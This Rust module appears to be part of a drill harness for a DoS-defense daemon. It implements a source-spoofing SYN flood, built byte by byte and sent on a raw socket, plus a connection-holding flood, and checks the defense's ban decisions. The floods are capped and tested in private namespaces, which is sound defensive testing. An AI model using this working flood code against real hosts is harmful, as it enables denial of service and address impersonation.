//! Layer-4 attacks: SYN floods built byte by byte and sent on a raw
//! socket (so the source address can be anyone's), and a connection flood
//! of full handshakes that never send a byte. Each is bounded twice, in
//! packets (or connections) and in time, and must only ever be run from
//! inside the drill's attacker namespace.

use std::io;
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::time::Duration;

use anyhow::{Context as _, bail};
use palisade_core::{Clock as _, MonotonicClock, NANOS_PER_SEC};
use socket2::{Domain, Protocol, SockAddr, Socket, Type};

use super::attack::{Attack, BoxFuture, Budget, Ctx, Outcome, budget};

/// Bytes in one SYN: an IPv4 header and a TCP header, neither with options.
pub const SYN_LEN: usize = 40;

/// Where a flood's packets claim to come from.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Sources {
    /// Every packet from this one address (the attacker's own, or a
    /// victim's it impersonates).
    One(Ipv4Addr),
    /// A random address of `net`/`prefix` per packet.
    Random {
        /// The range's first address.
        net: Ipv4Addr,
        /// Its prefix length (16..=32).
        prefix: u8,
    },
}

/// A bounded SYN flood at `target`.
#[derive(Clone, Copy, Debug)]
pub struct SynFlood {
    /// Claimed sources.
    pub sources: Sources,
    /// Where the SYNs go.
    pub target: SocketAddrV4,
    /// At most this many packets.
    pub packets: u64,
    /// At most this many packets per second.
    pub rate: u32,
    /// And for at most this long.
    pub max: Duration,
}

impl SynFlood {
    /// Sends the flood from the calling thread's namespace; the packets
    /// sent. Needs CAP_NET_RAW.
    pub fn run(&self) -> io::Result<u64> {
        let sock = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::TCP))?;
        // We write the IP header ourselves: that is what lets the source
        // be an address this host does not have.
        sock.set_header_included_v4(true)?;
        let dest = SockAddr::from(SocketAddr::V4(self.target));
        let mut rng = XorShift::seeded();
        let clock = MonotonicClock::new();
        let max_ns = u64::try_from(self.max.as_nanos()).unwrap_or(u64::MAX);
        let mut sent = 0u64;
        while sent < self.packets {
            let now = clock.now();
            if now >= max_ns {
                break;
            }
            // Never ahead of the rate: at any instant at most rate × elapsed
            // (plus the first packet) have gone out.
            let due = (u128::from(now) * u128::from(self.rate) / u128::from(NANOS_PER_SEC)) as u64 + 1;
            let due = due.min(self.packets);
            while sent < due {
                let r = rng.next();
                let src = SocketAddrV4::new(self.sources.pick(r), 1024 + (r >> 40) as u16 % 64_000);
                let pkt = syn(src, self.target, (r >> 8) as u32, r as u16);
                match sock.send_to(&pkt, &dest) {
                    Ok(_) => sent += 1,
                    // A full socket buffer under a flood is the flood
                    // working; try again on the next tick.
                    Err(e) if e.raw_os_error() == Some(libc::ENOBUFS) => break,
                    Err(e) => return Err(e),
                }
            }
            std::thread::sleep(Duration::from_millis(1));
        }
        Ok(sent)
    }
}

impl Sources {
    fn pick(self, r: u64) -> Ipv4Addr {
        match self {
            Self::One(a) => a,
            Self::Random { net, prefix } => {
                let host_bits = 32 - u32::from(prefix.clamp(16, 32));
                let mask = if host_bits == 0 {
                    0
                } else {
                    (1u32 << host_bits) - 1
                };
                Ipv4Addr::from((u32::from(net) & !mask) | ((r >> 16) as u32 & mask))
            }
        }
    }
}

/// An IPv4 TCP SYN from `src` to `dst`, both checksums filled in.
pub fn syn(src: SocketAddrV4, dst: SocketAddrV4, seq: u32, ip_id: u16) -> [u8; SYN_LEN] {
    let mut p = [0u8; SYN_LEN];
    p[0] = 0x45; // version 4, 5 words of header
    p[2..4].copy_from_slice(&(SYN_LEN as u16).to_be_bytes());
    p[4..6].copy_from_slice(&ip_id.to_be_bytes());
    p[6] = 0x40; // don't fragment
    p[8] = 64; // TTL
    p[9] = 6; // TCP
    p[12..16].copy_from_slice(&src.ip().octets());
    p[16..20].copy_from_slice(&dst.ip().octets());
    let ip_sum = checksum(&[&p[..20]]);
    p[10..12].copy_from_slice(&ip_sum.to_be_bytes());
    let t = &mut p[20..];
    t[0..2].copy_from_slice(&src.port().to_be_bytes());
    t[2..4].copy_from_slice(&dst.port().to_be_bytes());
    t[4..8].copy_from_slice(&seq.to_be_bytes());
    t[12] = 0x50; // 5 words of header
    t[13] = 0x02; // SYN
    t[14..16].copy_from_slice(&64_240u16.to_be_bytes()); // window
    let pseudo = pseudo_header(*src.ip(), *dst.ip(), 20);
    let tcp_sum = checksum(&[&pseudo, t]);
    t[16..18].copy_from_slice(&tcp_sum.to_be_bytes());
    p
}

/// The IPv4 pseudo-header the TCP checksum covers (RFC 9293, 3.1).
fn pseudo_header(src: Ipv4Addr, dst: Ipv4Addr, tcp_len: u16) -> [u8; 12] {
    let mut h = [0u8; 12];
    h[0..4].copy_from_slice(&src.octets());
    h[4..8].copy_from_slice(&dst.octets());
    h[9] = 6;
    h[10..12].copy_from_slice(&tcp_len.to_be_bytes());
    h
}

/// The Internet checksum (RFC 1071) over the concatenation of `parts`,
/// each of even length.
pub fn checksum(parts: &[&[u8]]) -> u16 {
    let mut sum: u32 = 0;
    for part in parts {
        for w in part.chunks(2) {
            let hi = u32::from(w[0]) << 8;
            sum += hi | w.get(1).map_or(0, |&b| u32::from(b));
        }
    }
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// A bounded flood of full TCP connections that never send anything.
#[derive(Clone, Copy, Debug)]
pub struct ConnFlood {
    /// The address they come from.
    pub from: Ipv4Addr,
    /// Where to connect.
    pub target: SocketAddr,
    /// At most this many connections.
    pub connections: u32,
    /// How long each connect may take.
    pub connect_timeout: Duration,
    /// How long the open connections are held (from the first) before
    /// all are closed; also the bound on the whole flood.
    pub hold: Duration,
}

/// What a connection flood got.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct ConnFloodOutcome {
    /// Handshakes that completed.
    pub opened: u32,
    /// Connects refused or timed out.
    pub failed: u32,
    /// Of those opened, the ones the server had reset or closed by the
    /// end of the hold (a handshake completes in the kernel, before the
    /// server's accept guard can say no).
    pub closed_by_peer: u32,
}

impl ConnFlood {
    /// Opens the connections from the calling thread's namespace, holds
    /// them, closes them.
    pub fn run(&self) -> ConnFloodOutcome {
        let clock = MonotonicClock::new();
        let hold_ns = u64::try_from(self.hold.as_nanos()).unwrap_or(u64::MAX);
        let mut held = Vec::with_capacity(self.connections.min(65_536) as usize);
        let mut out = ConnFloodOutcome::default();
        let target = SockAddr::from(self.target);
        let from = SockAddr::from(SocketAddr::from((self.from, 0)));
        for _ in 0..self.connections {
            if clock.now() >= hold_ns {
                break;
            }
            let opened = Socket::new(Domain::IPV4, Type::STREAM, Some(Protocol::TCP)).and_then(|s| {
                s.bind(&from)?;
                s.connect_timeout(&target, self.connect_timeout)?;
                Ok(s)
            });
            match opened {
                Ok(s) => {
                    out.opened += 1;
                    held.push(s);
                }
                Err(_) => out.failed += 1,
            }
        }
        let left = hold_ns.saturating_sub(clock.now());
        std::thread::sleep(Duration::from_nanos(left));
        out.closed_by_peer = held.iter().filter(|s| closed_by_peer(s)).count() as u32;
        // Hang up with a reset, as a flooder does: a FIN to a source the
        // daemon has banned meanwhile would be retransmitted into its
        // drop counters for minutes, and charged to the next attacks.
        for s in &held {
            let _ = s.set_linger(Some(Duration::ZERO));
        }
        drop(held);
        out
    }
}

/// Whether the peer reset or closed `s`: a read that does not wait sees
/// the reset or the end of the stream (we never sent, so nothing is due).
fn closed_by_peer(s: &Socket) -> bool {
    if s.set_nonblocking(true).is_err() {
        return false;
    }
    let mut buf = [std::mem::MaybeUninit::<u8>::uninit(); 1];
    match s.peek(&mut buf) {
        Ok(0) => true,
        Ok(_) => false,
        Err(e) => e.kind() != io::ErrorKind::WouldBlock,
    }
}

/// Which SYN flood a [`SynAttack`] sends.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum SynKind {
    /// Every SYN from the attacker's own address.
    OneSource,
    /// A random source per SYN from the spoofed range.
    Spoofed,
    /// Every SYN claiming to come from the upstream.
    AsUpstream,
}

/// A SYN flood as an attack of the catalog.
pub struct SynAttack(pub SynKind);

impl Attack for SynAttack {
    fn name(&self) -> &'static str {
        match self.0 {
            SynKind::OneSource => "syn-flood",
            SynKind::Spoofed => "spoofed-syn-flood",
            SynKind::AsUpstream => "syn-flood-as-upstream",
        }
    }
    fn title(&self) -> &'static str {
        match self.0 {
            SynKind::OneSource => "SYN flood from one source, raw packets from the attacker's own address",
            SynKind::Spoofed => "SYN flood from a random spoofed source per packet, out of a /16",
            SynKind::AsUpstream => {
                "SYN flood claiming the upstream's address: the upstream must not be banned"
            }
        }
    }
    fn sources(&self) -> u32 {
        u32::from(self.0 == SynKind::OneSource)
    }
    fn budget(&self, quick: bool) -> Budget {
        budget(quick, 15_000, 150_000, 15)
    }
    fn run(&self, ctx: Ctx) -> BoxFuture<anyhow::Result<Outcome>> {
        let kind = self.0;
        Box::pin(async move {
            let (SocketAddr::V4(target), SocketAddr::V4(upstream)) = (ctx.target, ctx.upstream) else {
                bail!("the drill's addresses are IPv4");
            };
            let sources = match kind {
                SynKind::OneSource => Sources::One(*ctx.sources.first().context("no source")?),
                SynKind::Spoofed => Sources::Random {
                    net: ctx.spoof.0,
                    prefix: ctx.spoof.1,
                },
                SynKind::AsUpstream => Sources::One(*upstream.ip()),
            };
            let seconds = ctx.budget.seconds.as_secs().max(1);
            let flood = SynFlood {
                sources,
                target,
                packets: ctx.budget.max,
                rate: u32::try_from(ctx.budget.max / seconds).unwrap_or(u32::MAX),
                max: ctx.budget.seconds,
            };
            let sent = tokio::task::spawn_blocking(move || flood.run())
                .await
                .context("the SYN flood panicked")?
                .context("sending SYNs on a raw socket")?;
            let mut outcome = Outcome {
                sent,
                ..Outcome::default()
            };
            judge_bans(&ctx, kind, sources, &mut outcome).await;
            Ok(outcome)
        })
    }
}

/// What the SYN defense banned, against what it must never ban: the
/// upstream (every request would fail) and the legitimate clients.
async fn judge_bans(ctx: &Ctx, kind: SynKind, sources: Sources, outcome: &mut Outcome) {
    let bans = match ctx.admin.get("/api/v1/bans").await {
        Ok(text) => banned_nets(&text),
        Err(e) => {
            outcome.notes.push(format!("no ban list: {e:#}"));
            return;
        }
    };
    let upstream = match ctx.upstream {
        SocketAddr::V4(a) => *a.ip(),
        SocketAddr::V6(_) => return,
    };
    for (net, len) in &bans {
        if covers(*net, *len, upstream) {
            outcome.breaches.push(format!(
                "the upstream's address {upstream} was banned ({net}/{len})"
            ));
        }
        if let Some(victim) = ctx.legit.iter().find(|a| covers(*net, *len, **a)) {
            outcome.breaches.push(format!(
                "a legitimate client's address {victim} was banned ({net}/{len})"
            ));
        }
    }
    match (kind, sources) {
        (SynKind::OneSource, Sources::One(me)) => {
            outcome
                .notes
                .push(if bans.iter().any(|(net, len)| covers(*net, *len, me)) {
                    format!("its source {me} was banned")
                } else {
                    format!("its source {me} was not banned")
                })
        }
        _ => outcome.notes.push(format!("{} bans in place", bans.len())),
    }
}

/// The IPv4 networks of `GET /api/v1/bans` (`[{"net": "a.b.c.d/n", ...}]`).
fn banned_nets(json: &str) -> Vec<(Ipv4Addr, u8)> {
    let Ok(serde_json::Value::Array(bans)) = serde_json::from_str(json) else {
        return Vec::new();
    };
    bans.iter()
        .filter_map(|b| {
            let (addr, len) = b.get("net")?.as_str()?.split_once('/')?;
            Some((addr.parse().ok()?, len.parse().ok().filter(|l| *l <= 32)?))
        })
        .collect()
}

/// Whether `net/len` holds `a`.
fn covers(net: Ipv4Addr, len: u8, a: Ipv4Addr) -> bool {
    let mask = u32::MAX.checked_shl(32 - u32::from(len)).unwrap_or(0);
    u32::from(net) & mask == u32::from(a) & mask
}

/// Handshakes that never send a byte, from a few addresses at once, each
/// opening more than `connections.max_per_ip`.
pub struct ConnFloodAttack;

/// Addresses the connection flood comes from.
const CONN_FLOOD_SOURCES: u32 = 16;

impl Attack for ConnFloodAttack {
    fn name(&self) -> &'static str {
        "conn-flood"
    }
    fn title(&self) -> &'static str {
        "connection flood: 16 addresses complete handshakes, never send a byte, and hold them"
    }
    fn sources(&self) -> u32 {
        CONN_FLOOD_SOURCES
    }
    fn budget(&self, quick: bool) -> Budget {
        budget(quick, 3_200, 8_000, 15)
    }
    fn run(&self, ctx: Ctx) -> BoxFuture<anyhow::Result<Outcome>> {
        Box::pin(async move {
            let per_source =
                u32::try_from(ctx.budget.max / u64::from(CONN_FLOOD_SOURCES)).unwrap_or(u32::MAX);
            let mut tasks = Vec::new();
            for &from in ctx.sources.iter() {
                let flood = ConnFlood {
                    from,
                    target: ctx.target,
                    connections: per_source,
                    connect_timeout: Duration::from_secs(1),
                    hold: ctx.budget.seconds,
                };
                tasks.push(tokio::task::spawn_blocking(move || flood.run()));
            }
            let mut outcome = Outcome::default();
            let (mut opened, mut failed, mut closed) = (0, 0, 0);
            let most = ctx.defenses.max_conns_per_ip;
            for (task, from) in tasks.into_iter().zip(ctx.sources.iter()) {
                let got = task.await.context("a connection flood panicked")?;
                outcome.sent += u64::from(got.opened + got.failed);
                opened += got.opened;
                failed += got.failed;
                closed += got.closed_by_peer;
                let open = got.opened - got.closed_by_peer;
                if open > most {
                    outcome.breaches.push(format!(
                        "{from} held {open} connections open; connections.max_per_ip is {most}"
                    ));
                }
            }
            outcome.notes.push(format!(
                "{opened} handshakes completed, {closed} of them reset or closed by Palisade, {failed} connects failed"
            ));
            Ok(outcome)
        })
    }
}

/// Not for keys or secrets: spreads spoofed sources, ports and sequence
/// numbers, which only have to differ.
struct XorShift(u64);

impl XorShift {
    fn seeded() -> Self {
        let t = MonotonicClock::new();
        let seed = (u64::from(std::process::id()) << 32) ^ t.now() ^ 0x9e37_79b9_7f4a_7c15;
        Self(seed | 1)
    }

    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]

    use palisade_kernel::netns::Netns;

    use super::*;

    #[test]
    fn ip_checksum_of_a_known_header() {
        // The worked example of the IPv4 header checksum in Wikipedia's
        // "Internet checksum" / "IPv4 header checksum" article: b861.
        let h: [u8; 20] = [
            0x45, 0x00, 0x00, 0x73, 0x00, 0x00, 0x40, 0x00, 0x40, 0x11, 0x00, 0x00, 0xc0, 0xa8, 0x00, 0x01,
            0xc0, 0xa8, 0x00, 0xc7,
        ];
        assert_eq!(checksum(&[&h]), 0xb861);
    }

    #[test]
    fn syn_matches_a_known_packet() {
        // 198.18.23.2:40000 → 198.18.23.1:8080, seq 1, id 0x1234. The
        // expected bytes' two checksums were worked out separately, by
        // summing the 16-bit words outside this code (the sums are in the
        // comments), so a mistake shared by `checksum` and `syn` shows.
        let p = syn(
            SocketAddrV4::new(Ipv4Addr::new(198, 18, 23, 2), 40_000),
            SocketAddrV4::new(Ipv4Addr::new(198, 18, 23, 1), 8080),
            1,
            0x1234,
        );
        #[rustfmt::skip]
        let want: [u8; SYN_LEN] = [
            0x45, 0x00, 0x00, 0x28, 0x12, 0x34, 0x40, 0x00, 0x40, 0x06,
            // IP: 4500+0028+1234+4000+4006+c612+1702+c612+1701 = 0x2_9189
            // → 0x918b → !0x918b = 0x6e74
            0x6e, 0x74,
            198, 18, 23, 2, 198, 18, 23, 1,
            0x9c, 0x40, 0x1f, 0x90, 0, 0, 0, 1, 0, 0, 0, 0, 0x50, 0x02, 0xfa, 0xf0,
            // TCP: pseudo c612+1702+c612+1701+0006+0014 = 0x1_ba41, segment
            // 9c40+1f90+0000+0001+0000+0000+5002+faf0 = 0x2_06c3; total
            // 0x3_c104 → 0xc107 → !0xc107 = 0x3ef8
            0x3e, 0xf8,
            0, 0,
        ];
        assert_eq!(p, want);
    }

    #[test]
    fn a_filled_in_checksum_sums_to_zero() {
        let src = SocketAddrV4::new(Ipv4Addr::new(198, 19, 0, 77), 5555);
        let dst = SocketAddrV4::new(Ipv4Addr::new(198, 18, 0, 1), 443);
        let p = syn(src, dst, 0xdead_beef, 7);
        assert_eq!(checksum(&[&p[..20]]), 0);
        assert_eq!(checksum(&[&pseudo_header(*src.ip(), *dst.ip(), 20), &p[20..]]), 0);
    }

    /// `name: value` pairs of one `/proc/net/snmp` protocol inside `ns`.
    fn snmp(ns: &Netns, proto: &str, field: &str) -> u64 {
        let out = String::from_utf8(ns.exec(&["cat", "/proc/net/snmp"]).unwrap().stdout).unwrap();
        let mut rows = out.lines().filter(|l| l.starts_with(&format!("{proto}:")));
        let (names, values) = (rows.next().unwrap(), rows.next().unwrap());
        let i = names.split_whitespace().position(|n| n == field).unwrap();
        values.split_whitespace().nth(i).unwrap().parse().unwrap()
    }

    /// Half-open (SYN_RECV) connections in `ns` whose peer `from` accepts.
    fn half_open(ns: &Netns, from: impl Fn(Ipv4Addr) -> bool) -> usize {
        let out = String::from_utf8(ns.exec(&["cat", "/proc/net/tcp"]).unwrap().stdout).unwrap();
        out.lines()
            .skip(1)
            .filter(|l| {
                let f: Vec<_> = l.split_whitespace().collect();
                // The kernel prints the address as the in-memory u32 of a
                // big-endian value: on this little-endian host, reversed.
                let ip = u32::from_str_radix(&f[2][..8], 16).unwrap();
                f[3] == "03" && from(Ipv4Addr::from(ip.to_le_bytes()))
            })
            .count()
    }

    /// As root, in namespaces this test makes: the kernel takes our SYNs
    /// (checksums right: half-open connections from the claimed sources,
    /// no checksum errors), the floods stop at their packet and time
    /// bounds, and leave no raw socket behind.
    #[test]
    fn syn_floods_land_stay_bounded_and_clean_up() {
        let Some(srv) = Netns::for_test("drsyn") else {
            return;
        };
        let att = Netns::create("drsynatt").unwrap();
        srv.link(&att, "198.18.23.1/24", &["198.18.23.2/24"]).unwrap();
        let listener = srv
            .enter(|| std::net::TcpListener::bind("198.18.23.1:8080"))
            .join()
            .unwrap()
            .unwrap();
        let target = SocketAddrV4::new(Ipv4Addr::new(198, 18, 23, 1), 8080);
        let flood = |sources, packets, rate, max| {
            let f = SynFlood {
                sources,
                target,
                packets,
                rate,
                max,
            };
            att.enter(move || f.run()).join().unwrap().unwrap()
        };
        let segs = snmp(&srv, "Tcp", "InSegs");

        // Addresses nobody on the link has: their SYN-ACKs go unanswered,
        // so each SYN stays a half-open connection the test can count.
        let spoofed = Sources::Random {
            net: Ipv4Addr::new(198, 18, 23, 128),
            prefix: 25,
        };
        assert_eq!(flood(spoofed, 60, 5_000, Duration::from_secs(10)), 60);
        let impersonated = Ipv4Addr::new(198, 18, 23, 50);
        assert_eq!(
            flood(Sources::One(impersonated), 30, 5_000, Duration::from_secs(10)),
            30
        );
        let in_range = |a: Ipv4Addr| a.octets()[..3] == [198, 18, 23] && a.octets()[3] >= 128;
        let spoofed_half_open = half_open(&srv, in_range);
        assert!(spoofed_half_open > 0, "no SYN from the spoofed range was taken");
        // One source, random ports: nearly every SYN is its own 4-tuple.
        assert!(half_open(&srv, |a| a == impersonated) >= 25);
        assert!(snmp(&srv, "Tcp", "InSegs") >= segs + 90);
        assert_eq!(snmp(&srv, "Tcp", "InCsumErrors"), 0);

        // Bounded in time: at 500/s for 300 ms, never more than 151,
        // however slow this machine is (the pacer only falls behind).
        let sent = flood(
            Sources::One(Ipv4Addr::new(198, 18, 23, 2)),
            1_000_000,
            500,
            Duration::from_millis(300),
        );
        assert!((1..=151).contains(&sent), "{sent} sent");

        let raw = String::from_utf8(att.exec(&["cat", "/proc/net/raw"]).unwrap().stdout).unwrap();
        assert_eq!(raw.lines().count(), 1, "a raw socket outlived its flood: {raw}");

        let conns = ConnFlood {
            from: Ipv4Addr::new(198, 18, 23, 2),
            target: SocketAddr::V4(target),
            connections: 20,
            connect_timeout: Duration::from_secs(2),
            hold: Duration::from_millis(200),
        };
        let got = att.enter(move || conns.run()).join().unwrap();
        assert_eq!(
            got,
            ConnFloodOutcome {
                opened: 20,
                failed: 0,
                closed_by_peer: 0,
            }
        );
        drop(listener);
    }

    #[test]
    fn the_ban_list_is_read_and_matched_by_prefix() {
        let json = r#"[{"net":"198.18.2.2/32","until":1,"reason":"syn_flood","rate":900},
                       {"net":"198.19.0.0/16"},{"net":"2001:db8::/64"},{"net":"garbage"}]"#;
        let bans = banned_nets(json);
        assert_eq!(
            bans,
            [
                (Ipv4Addr::new(198, 18, 2, 2), 32),
                (Ipv4Addr::new(198, 19, 0, 0), 16)
            ]
        );
        assert!(covers(bans[0].0, 32, Ipv4Addr::new(198, 18, 2, 2)));
        assert!(!covers(bans[0].0, 32, Ipv4Addr::new(198, 18, 2, 3)));
        assert!(covers(bans[1].0, 16, Ipv4Addr::new(198, 19, 200, 7)));
        assert!(covers(Ipv4Addr::UNSPECIFIED, 0, Ipv4Addr::new(198, 18, 2, 2)));
        assert_eq!(banned_nets("not json"), []);
    }

    #[test]
    fn random_sources_stay_in_their_range() {
        let s = Sources::Random {
            net: Ipv4Addr::new(198, 19, 128, 0),
            prefix: 17,
        };
        let mut rng = XorShift(42);
        let mut seen = std::collections::HashSet::new();
        for _ in 0..10_000 {
            let a = s.pick(rng.next());
            assert_eq!(
                u32::from(a) >> 15,
                u32::from(Ipv4Addr::new(198, 19, 128, 0)) >> 15,
                "{a}"
            );
            seen.insert(a);
        }
        assert!(seen.len() > 5_000, "{} distinct", seen.len());
        assert_eq!(Sources::One(Ipv4Addr::LOCALHOST).pick(7), Ipv4Addr::LOCALHOST);
    }
}
